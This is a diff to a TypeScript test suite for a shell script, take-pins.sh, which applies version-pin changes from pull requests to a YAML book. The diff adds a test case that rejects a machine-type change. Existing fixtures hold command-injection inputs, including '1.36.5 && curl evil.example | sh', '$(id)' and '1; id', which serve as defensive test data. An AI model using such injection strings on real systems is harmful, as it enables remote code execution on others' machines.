@@ -15,7 +15,7 @@ const root = mkdtempSync(path.join(tmpdir(), 'lab-take-pins-'));
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
 const BOOK =
-  'title: Book\nvars:\n  # Source: somewhere\n  KUBERNETES_VERSION: 1.36.4\n  K8S_MINOR: "1.36"\n  CCM_MANIFEST_COMMIT: 0153e42854b441cf9f10d0ea6669374cc595e7cc\n';
+  'title: Book\nvars:\n  # Source: somewhere\n  MACHINE_TYPE: e2-standard-2\n  KUBERNETES_VERSION: 1.36.4\n  K8S_MINOR: "1.36"\n  CCM_MANIFEST_COMMIT: 0153e42854b441cf9f10d0ea6669374cc595e7cc\n';
 const git = (cwd: string, ...args: string[]) =>
   execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
     cwd,
@@ -43,6 +43,7 @@ pullRequest(2, BOOK.replace('1.36.4', '1.36.5 && curl evil.example | sh'));
 pullRequest(3, BOOK.replace('1.36.4', '1.36.5'), 'changed\n');
 pullRequest(4, BOOK.replace('KUBERNETES_VERSION', 'KUBE_VERSION'));
 pullRequest(5, BOOK.replace('# Source: somewhere', 'dangerous: $(id)'));
+pullRequest(6, BOOK.replace('e2-standard-2', 'e2-highmem-96'));
 
 async function takePins(pr: string) {
   const work = mkdtempSync(path.join(root, 'work-'));
@@ -64,6 +65,7 @@ describe('take-pins.sh', () => {
     ['3', 'a change to another file', 'changes more than docs/book.yaml'],
     ['4', 'a renamed pin', 'renames, adds or removes pins'],
     ['5', 'a changed line that is no pin', 'beyond pin values'],
+    ['6', 'a setting that is no version or commit', 'beyond pin values'],
     ['1; id', 'a pull request "number" that is not one', 'is not a pull request number'],
   ])('refuses pull request %s (%s), exit 2, book.yaml untouched', async (pr, _what, message) => {
     const result = await takePins(pr);
